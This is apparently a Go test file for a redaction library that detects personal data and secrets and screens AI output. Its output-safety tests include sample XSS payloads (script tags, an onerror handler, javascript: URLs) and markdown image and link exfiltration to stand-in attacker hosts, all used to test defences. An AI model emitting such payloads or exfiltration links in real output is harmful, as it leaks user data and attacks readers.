package redact

import (
	"strings"
	"testing"
)

func mustNew(t testing.TB, cfg Config) *Redactor {
	t.Helper()
	r, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// findOne returns the types and texts of the entities Find reports.
func found(r *Redactor, text string) []string {
	var out []string
	for _, e := range r.Find(text) {
		out = append(out, e.Type+"="+text[e.Start:e.End])
	}
	return out
}

// TestDetectors is the detector table: each case lists exactly the entities
// expected (empty for negatives).
func TestDetectors(t *testing.T) {
	r := mustNew(t, DefaultConfig())
	cases := []struct {
		name, text string
		want       []string
	}{
		// e-mail
		{"email", "write to john.doe+x@mail.example.co.uk.", []string{"EMAIL_ADDRESS=john.doe+x@mail.example.co.uk"}},
		{"email no tld", "user@localhost is local", nil},
		{"email numeric tld", "a@b.c1 and x@81.2.3.4", []string{"IP_ADDRESS=81.2.3.4"}},
		{"email dotdot", "a..b@example.com", nil},
		{"at handle", "ping @alice on chat", nil},
		// credit cards
		{"visa spaced", "card 4111 1111 1111 1111 exp", []string{"CREDIT_CARD=4111 1111 1111 1111"}},
		{"two cards in a row", "cards 4111 1111 1111 1111 4012 8888 8888 1881 end",
			[]string{"CREDIT_CARD=4111 1111 1111 1111", "CREDIT_CARD=4012 8888 8888 1881"}},
		{"card then digits", "card 4111 1111 1111 1111 2024 paid", []string{"CREDIT_CARD=4111 1111 1111 1111"}},
		{"amex dashed", "amex 3782-822463-10005", []string{"CREDIT_CARD=3782-822463-10005"}},
		{"maestro 12", "card 503890547220", []string{"CREDIT_CARD=503890547220"}},
		{"luhn fail", "card 4111 1111 1111 1112 ok", nil},
		{"bad iin", "number 9111111111111111", nil},
		{"mixed seps", "4111-1111 1111-1111", nil},
		{"order number", "order 1234567890123", nil},
		// IBAN
		{"iban compact", "DE89370400440532013000", []string{"IBAN_CODE=DE89370400440532013000"}},
		{"iban spaced", "pay GB82 WEST 1234 5698 7654 32 now", []string{"IBAN_CODE=GB82 WEST 1234 5698 7654 32"}},
		{"iban lower", "gb42nawi04454264788619", []string{"IBAN_CODE=gb42nawi04454264788619"}},
		{"iban bad checksum", "GB83WEST12345698765432", nil},
		{"iban bad length", "DE8937040044053201300 ok", nil},
		// SSN
		{"ssn dashed", "SSN 460-89-9847", []string{"US_SSN=460-89-9847"}},
		{"ssn spaced", "ssn 460 89 9847", []string{"US_SSN=460 89 9847"}},
		{"ssn plain with context", "social security number 460899847", []string{"US_SSN=460899847"}},
		{"ssn plain no context", "reference 460899847", nil},
		{"ssn area 000", "000-12-3456", nil},
		{"ssn area 666", "666-12-3456", nil},
		{"ssn area 9xx", "912-12-3456", nil},
		{"ssn group 00", "123-00-3456", nil},
		{"ssn serial 0000", "123-45-0000", nil},
		{"ssn mixed seps", "123-45 6789", nil},
		// IP
		{"ipv4", "host 81.2.69.160:8080", []string{"IP_ADDRESS=81.2.69.160"}},
		{"ipv4 octet", "256.1.1.1", nil},
		{"ipv4 leading zero", "01.2.3.4", nil},
		{"version string", "version 1.2.3.4", nil},
		{"ipv6 full", "2a00:1450:85a3:0000:0000:8a2e:0370:7334", []string{"IP_ADDRESS=2a00:1450:85a3:0000:0000:8a2e:0370:7334"}},
		{"ipv6 compressed", "via 2a00:1450::1ff:fe23:4567:890a today", []string{"IP_ADDRESS=2a00:1450::1ff:fe23:4567:890a"}},
		{"ipv6 loopback", "bind ::1 now", nil},
		{"ipv4 loopback", "listen on 127.0.0.1:8080 or 0.0.0.0", nil},
		{"ipv4 private", "router 192.168.1.1, hosts 10.0.1.11 and 172.16.4.2, CGNAT 100.64.0.9, link-local 169.254.1.1", nil},
		{"ipv4 documentation", "see 192.0.2.10, 198.51.100.7 and 203.0.113.77", nil},
		{"ipv4 cidr", "allow 81.2.69.0/24", nil},
		{"ipv6 private", "fe80::1ff:fe23:4567:890a and fd12:3456:789a::1 and 2001:db8::10 and ff02::1", nil},
		{"ipv4 public", "client 81.2.69.160 and 129.250.4.196", []string{"IP_ADDRESS=81.2.69.160", "IP_ADDRESS=129.250.4.196"}},
		{"netmask", "netmask 255.255.255.0 on 81.2.69.3", []string{"IP_ADDRESS=81.2.69.3"}},
		{"ipv6 v4 tail", "::ffff:81.2.69.128", []string{"IP_ADDRESS=::ffff:81.2.69.128"}},
		{"ipv6 two ::", "1::2::3", nil},
		{"time", "at 10:30:00 today", nil},
		{"mac", "00:1A:2B:3C:4D:5E", nil},
		// phone
		{"phone intl", "call +1-984-182-0190 now", []string{"PHONE_NUMBER=+1-984-182-0190"}},
		{"phone trunk", "+46 (0)8 928 571 38", []string{"PHONE_NUMBER=+46 (0)8 928 571 38"}},
		{"phone us", "(579)888-3058", []string{"PHONE_NUMBER=(579)888-3058"}},
		{"phone ext", "345-899-3560x4587", []string{"PHONE_NUMBER=345-899-3560x4587"}},
		{"phone dots", "930.167.3943", []string{"PHONE_NUMBER=930.167.3943"}},
		{"model name is no phone", "use claude-sonnet-4-5-20250929 or gpt_4-0613-2024", nil},
		{"phone weak with context", "Phone: 467 3395", []string{"PHONE_NUMBER=467 3395"}},
		{"phone weak no context", "we sold 467 3395", nil},
		{"date", "on 2024-01-15 we", nil},
		{"date time", "When: 2000-04-16 11:34:35", nil},
		{"date eu", "on 15.01.2024", nil},
		{"amount", "1.000.000 euros", nil},
		{"year range", "1990-2020", nil},
		{"plain number", "population 1234567", nil},
		{"address", "located at 6556 106 Rue Ettat", nil},
		{"license", "driver's license number is 2270-66-1551", nil},
		// secrets
		{"openai", "key sk-proj-abc123DEF456ghi789JKL012 ok", []string{"API_KEY=sk-proj-abc123DEF456ghi789JKL012"}},
		{"sk words", "the sk-learn-library-is-great", nil},
		{"aws", "AKIAIOSFODNN7EXAMPLE", []string{"AWS_ACCESS_KEY=AKIAIOSFODNN7EXAMPLE"}},
		{"aws short", "AKIAIOSFODNN7 ok", nil},
		{"github", "ghp_0123456789abcdefghijABCDEFGHIJ012345", []string{"GITHUB_TOKEN=ghp_0123456789abcdefghijABCDEFGHIJ012345"}},
		{"github pat", "github_pat_11ABCDEFG0123456789_abcdefghijKLMNOP", []string{"GITHUB_TOKEN=github_pat_11ABCDEFG0123456789_abcdefghijKLMNOP"}},
		{"gitlab", "glpat-abcdefghij0123456789", []string{"GITLAB_TOKEN=glpat-abcdefghij0123456789"}},
		{"slack", "xoxb-1234567890-abcdefghij", []string{"SLACK_TOKEN=xoxb-1234567890-abcdefghij"}},
		{"jwt", "t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
			[]string{"JWT=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"}},
		{"jwt no alg", "eyJmb28iOiJiYXIifQ.eyJzdWIiOiIxMjM0NTY3ODkwIn0.abc ok", nil},
		{"pem", "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\nbye", []string{"PRIVATE_KEY=-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----"}},
		{"pem public", "-----BEGIN PUBLIC KEY-----\nMIIB\n-----END PUBLIC KEY-----", nil},
		{"password", "password=Tr0ub4dor&3 end", []string{"SECRET=Tr0ub4dor&3"}},
		{"password word", "password: required", nil},
		{"json token", `{"access_token": "ya29.a0AfH6SMBx3kL9QzR7"}`, []string{"SECRET=ya29.a0AfH6SMBx3kL9QzR7"}},
		{"mistral key", "MISTRAL_API_KEY=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z", []string{"API_KEY=Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z"}},
		{"32 chars no context", "id Ab3dEf6hIj9kLm2nOp5qRs8tUv1wXy4z", nil},
		{"monkey", "monkey=Ab3dEf6hIj9kLm2nOp5qRs8", nil},
		{"bearer", "Authorization: Bearer abcDEF123456ghiJKL789", []string{"API_KEY=abcDEF123456ghiJKL789"}},
		{"key low entropy", "key=aaaaaaaaaaaaaaaa1", nil},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := found(r, c.text)
			if strings.Join(got, "|") != strings.Join(c.want, "|") {
				t.Errorf("Find(%q) = %q, want %q", c.text, got, c.want)
			}
		})
	}
}

// TestOutputSafety covers HTML, script URLs, markdown exfiltration, canaries
// and system-prompt leaks.
func TestOutputSafety(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Canaries = []string{"CANARY-7f3a9c"}
	cfg.AllowedLinkHosts = []string{"docs.example.com"}
	r := mustNew(t, cfg)
	prompt := "You are SupportBot for ACME. Internal rule: offer the 20% discount code only to enterprise customers."
	cases := []struct {
		name, in, want string
		leak, unsafe   bool
	}{
		{"script block", "a<script>alert(1)</script>b", "ab", false, true},
		{"script unclosed", "a<script src=x>b", "ab", false, true},
		{"iframe", `x<iframe src="https://e.com"></iframe>y`, "xy", false, true},
		{"event handler", `<img src=x onerror=alert(1)>ok`, "ok", false, true},
		{"benign tag", "<b>bold</b> and a<b", "<b>bold</b> and a<b", false, false},
		{"js url", "open javascript:alert(1)", "open [UNSAFE_URL]alert(1)", false, true},
		{"data url", "see data:text/html;base64,PHNjcmlwdD4=", "see [UNSAFE_URL]text/html;base64,PHNjcmlwdD4=", false, true},
		{"data word", "the data: it is fine", "the data: it is fine", false, false},
		{"md image exfil", "![x](https://evil.example/log?q=SECRET) done", "[blocked image] done", false, true},
		{"md image long path", "![x](https://evil.example/aGVsbG8gd29ybGQgc2VjcmV0.png)", "[blocked image]", false, true},
		{"md image plain", "![logo](https://evil.example/logo.png)", "![logo](https://evil.example/logo.png)", false, false},
		{"md link allowed", "[doc](https://docs.example.com/a?b=c)", "[doc](https://docs.example.com/a?b=c)", false, false},
		{"md link subdomain", "[doc](https://x.docs.example.com/a?b=c)", "[doc](https://x.docs.example.com/a?b=c)", false, false},
		{"md link exfil", "[click](http://attacker.test/?d=jane@example.org)", "[blocked link]", false, true},
		{"md link identifier", "[click](http://attacker.test/?d=abc)", "[click](http://attacker.test/?d=abc)", false, false},
		{"md js link", "[click](javascript:alert(1))", "[blocked link]", false, true},
		{"canary", "the code is CANARY-7f3a9c!", "the code is [CANARY]!", true, false},
		{"prompt leak", "Sure. My rules: " + prompt[8:] + " Anything else?", "Sure. My rules: [SYSTEM_PROMPT_LEAK]. Anything else?", true, false},
		{"short overlap", "I am SupportBot for ACME.", "I am SupportBot for ACME.", false, false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, rep := r.Redact(c.in, &RequestContext{SystemPrompt: prompt})
			if got != c.want || rep.Leak != c.leak || rep.Unsafe != c.unsafe {
				t.Errorf("Redact(%q) = %q leak=%v unsafe=%v, want %q leak=%v unsafe=%v", c.in, got, rep.Leak, rep.Unsafe, c.want, c.leak, c.unsafe)
			}
		})
	}
}

// TestStyles checks the tag, mask and hash replacement styles and XSS escape mode.
func TestStyles(t *testing.T) {
	text := "card 4111 1111 1111 1111 <script>x</script>"
	cases := []struct {
		style Style
		xss   XSSMode
		want  string
	}{
		{StyleTag, XSSStrip, "card [CREDIT_CARD] "},
		{StyleMask, XSSEscape, "card **** **** **** 1111 &lt;script&gt;x&lt;/script&gt;"},
	}
	for _, c := range cases {
		cfg := DefaultConfig()
		cfg.Style, cfg.XSS = c.style, c.xss
		if got, _ := mustNew(t, cfg).Redact(text, nil); got != c.want {
			t.Errorf("style %s/%s: got %q, want %q", c.style, c.xss, got, c.want)
		}
	}
	cfg := DefaultConfig()
	cfg.Style, cfg.HashKey = StyleHash, "k1"
	r := mustNew(t, cfg)
	a, _ := r.Redact("a john@example.com", nil)
	b, _ := r.Redact("b john@example.com", nil)
	if !strings.HasPrefix(a, "a [EMAIL_ADDRESS:") || len(a) != len("a [EMAIL_ADDRESS:000000]") || a[2:] != b[2:] {
		t.Errorf("hash style not stable: %q vs %q", a, b)
	}
	cfg.HashKey = "k2"
	if c, _ := mustNew(t, cfg).Redact("a john@example.com", nil); c == a {
		t.Errorf("hash does not depend on the key: %q", c)
	}
}

// TestConfigErrors checks that New rejects bad settings with a useful message.
func TestConfigErrors(t *testing.T) {
	cases := []struct {
		cfg  Config
		want string
	}{
		{Config{Style: "blur"}, `Config.Style "blur"`},
		{Config{XSS: "maybe"}, `Config.XSS "maybe"`},
		{Config{Window: 10}, "Config.Window 10"},
		{Config{MinPromptOverlap: 5}, "Config.MinPromptOverlap 5"},
		{Config{Custom: []CustomPattern{{Name: "X", Pattern: "("}}}, `custom pattern 0 ("X")`},
		{Config{Custom: []CustomPattern{{Name: "", Pattern: "x"}}}, "custom pattern 0: name"},
	}
	for _, c := range cases {
		if _, err := New(c.cfg); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("New(%+v) error = %v, want it to mention %q", c.cfg, err, c.want)
		}
	}
}

// TestCustomAndDisabled checks custom patterns, their precedence below
// built-ins, and per-type disabling.
func TestCustomAndDisabled(t *testing.T) {
	cfg := DefaultConfig()
	cfg.Custom = []CustomPattern{{Name: "TICKET", Pattern: `T-[0-9]{4,}`}}
	cfg.Disabled = []string{"phone_number"}
	r := mustNew(t, cfg)
	got, rep := r.Redact("see T-12345 and +1-984-182-0190\nmail a@example.com", nil)
	want := "see [TICKET] and +1-984-182-0190\nmail [EMAIL_ADDRESS]"
	if got != want || rep.Counts["TICKET"] != 1 || rep.Counts[PhoneNumber] != 0 {
		t.Errorf("got %q %v, want %q", got, rep.Counts, want)
	}
}

// TestPrefixedAtTable checks detectPrefixedAt (rules indexed by trigger byte)
// against the walk over every rule's prefix it replaces, at every byte of texts
// built from each prefix with keys of every body class around it.
func TestPrefixedAtTable(t *testing.T) {
	walk := func(v *view, k int) (int, int, kind, bool) {
		c := v.s[k]
		for i := range prefixRules {
			p := prefixRules[i].prefix
			for j := 1; j < len(p); j++ {
				if p[j] != c {
					continue
				}
				st := k - j
				if st < v.floor || st < 0 || isWord(v.at(st-1)) || v.s[st] != p[0] {
					break
				}
				if e, kd, ok := detectPrefixed(v, st); ok {
					return st, e, kd, true
				}
				break
			}
		}
		return 0, 0, 0, false
	}
	var texts []string
	for _, r := range prefixRules {
		for _, body := range []string{"", "abc", strings.Repeat("A1b2", 10), strings.Repeat("ABCDEFGH", 3), strings.Repeat("x-y_", 12)} {
			for _, before := range []string{"", " ", "a", "-", "_", "key="} {
				texts = append(texts, before+r.prefix+body+" tail", r.prefix[:len(r.prefix)-1]+body, before+r.prefix+r.prefix+body)
			}
		}
	}
	for _, s := range texts {
		for k := 0; k < len(s); k++ {
			for _, floor := range []int{0, k / 2} {
				v1 := view{s: s, k: k, floor: floor, fin: true}
				v2 := v1
				a1, b1, c1, ok1 := walk(&v1, k)
				a2, b2, c2, ok2 := detectPrefixedAt(&v2, k)
				if a1 != a2 || b1 != b2 || c1 != c2 || ok1 != ok2 || v1 != v2 {
					t.Fatalf("%q at %d floor %d: table (%d %d %v %v) %+v, walk (%d %d %v %v) %+v", s, k, floor, a2, b2, c2, ok2, v2, a1, b1, c1, ok1, v1)
				}
			}
		}
	}
}
